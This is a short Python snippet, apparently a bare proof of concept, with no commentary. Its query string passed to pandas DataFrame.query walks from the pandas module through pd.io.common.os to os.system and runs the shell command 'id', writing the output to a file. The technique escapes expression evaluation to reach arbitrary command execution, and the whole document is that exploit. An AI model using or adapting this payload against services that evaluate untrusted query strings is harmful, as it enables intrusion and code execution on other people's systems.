import pandas as pd
df = pd.DataFrame({"a": [1]})
df.pipe(pd.DataFrame.query, "@p.io.common.os.system('id>pf') == 0", local_dict={"p": pd})
